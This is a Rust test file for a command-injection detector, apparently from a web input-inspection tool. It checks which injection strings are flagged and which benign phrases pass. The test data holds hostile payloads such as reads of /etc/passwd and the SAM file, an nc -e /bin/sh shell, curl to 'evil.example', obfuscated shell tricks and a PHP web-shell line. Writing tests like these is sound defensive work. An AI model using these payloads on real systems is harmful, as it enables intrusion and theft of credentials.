use super::*;
use crate::Place;

fn hit(raw: &str, level: Sensitivity) -> bool {
    detect(&Views::new(raw, Place::Json), level)
}

#[test]
fn separators_then_commands() {
    for a in [
        ";id",
        "a;id;",
        "a|id|",
        "x && whoami",
        "x || sleep 5",
        "x | cat /etc/passwd",
        "foo\nid",
        "foo\\nid\\n",
        "1; ping -c 10 127.0.0.1",
        "1 & net user hacker Password1 /ADD",
        "|/usr/bin/id",
        ";/bin/sh -i",
        "x; type C:\\Windows\\repair\\SAM",
        "x; dir C:\\Users",
        "x| ls -la",
        "x; nc -lvvp 4444 -e /bin/sh",
        "x; curl https://evil.example/x",
        "q; perl -e 'print 1'",
    ] {
        assert!(hit(a, Sensitivity::Medium), "{a}");
        assert!(hit(a, Sensitivity::Low), "{a} at low");
    }
}

#[test]
fn substitutions_anywhere() {
    for a in [
        "`id`",
        "name=`whoami`",
        "$(cat /etc/passwd)",
        "$(`ls`)",
        "x<(id)",
        "a$(sleep 5)",
    ] {
        assert!(hit(a, Sensitivity::Low), "{a}");
    }
}

#[test]
fn shell_obfuscation() {
    for a in [
        ";c''at${IFS}/etc/passwd",
        ";c\\at /etc/passwd",
        "|{cat,/etc/passwd}",
        ";w'h'o'a'm'i",
        ";$IFS$9id",
        "x;c$@at /etc/hosts",
        ";cmd.exe /c dir",
        "a; powershell.exe -nop",
    ] {
        assert!(hit(a, Sensitivity::Medium), "{a}");
    }
}

#[test]
fn start_of_value_needs_shell_arguments() {
    for a in [
        "ls -l /tmp",
        "uname -a",
        "ipconfig /all",
        "nc -lvvp 4445 -e /bin/sh &",
        "perl -e 'print 1'",
        "netsh firewall set opmode disable",
        "dir C:\\",
        "type %SYSTEMROOT%\\repair\\SAM",
        "curl https://evil.example/rce.txt",
    ] {
        assert!(hit(a, Sensitivity::Medium), "{a}");
        assert!(
            !hit(a, Sensitivity::Low) || a.contains("/bin/"),
            "{a} at low"
        );
    }
}

#[test]
fn code_execution() {
    for a in [
        "() { :;}; echo vulnerable",
        "{${sleep(20)}}",
        "${@print(md5(x))}",
        "system('whoami');",
        "eval('ls')",
        "<?php passthru($_GET['c']); ?>",
        "phpinfo()",
    ] {
        assert!(hit(a, Sensitivity::Low), "{a}");
    }
}

#[test]
fn prose_and_data_stay_clean() {
    for b in [
        "R&D; sales",
        "cats | dogs",
        "Tom & Jerry; the cat sat",
        "name; type of account",
        "Skills: Java; Python | Ruby",
        "price $5 (approx.)",
        "costs $(5) less",
        "report-v1.2.pdf",
        "a/b/c",
        "see notes; id card required",
        "sleep 8 hours a night",
        "pwd reset requested",
        "php developer",
        "python 3.11",
        "echo chamber",
        "set of 3; more to come",
        "type: admin",
        "Q&A | help",
        "/api/v1/users?id=5",
        "the system (as designed)",
        "x; ls-like listing",
        "head office; tail end",
        "net 30 days",
    ] {
        assert!(!hit(b, Sensitivity::Medium), "{b}");
    }
}

#[test]
fn high_and_low_bounds() {
    assert!(hit("ls -l /tmp", Sensitivity::High));
    assert!(!hit("ls -l /tmp", Sensitivity::Low));
    assert!(hit(";id", Sensitivity::Low));
}

#[test]
fn long_words_are_bounded() {
    let long = format!(";{}", "a".repeat(10_000));
    assert!(!hit(&long, Sensitivity::High));
    let many = ";".repeat(10_000);
    assert!(!hit(&many, Sensitivity::High));
}

/// Cost of this file's detectors and the traversal, SSRF, NoSQL and
/// prototype detectors on short benign values (views built outside the
/// timing): `cargo test --release -p portcullis-inspect --lib benign_cost -- --ignored --nocapture`.
#[test]
#[ignore = "a measurement, not a check"]
fn benign_cost() {
    use crate::detect::{nosql, proto, ssrf, traversal};
    let values = [
        "report-v1.2.pdf",
        "R&D; sales team",
        "cats | dogs",
        "a/b/c/d.json",
        "https://example.com/x",
        "price $5 (approx)",
        "jane.doe@example.com",
        "2024-01-15T10:30:00Z",
    ];
    let views: Vec<Views<'_>> = values.iter().map(|v| Views::new(v, Place::Json)).collect();
    let rounds = 200_000;
    let start = std::time::Instant::now();
    let mut n = 0usize;
    for _ in 0..rounds {
        for v in &views {
            let l = Sensitivity::Medium;
            n += usize::from(
                detect(v, l)
                    || traversal::detect(v, l)
                    || ssrf::detect(v, l)
                    || nosql::detect(v, l)
                    || proto::detect(v, l),
            );
        }
    }
    let per = start.elapsed().as_nanos() / (rounds * values.len()) as u128;
    println!("{per} ns per benign value across cmdi, traversal, ssrf, nosql, proto");
    assert_eq!(n, 0);
}
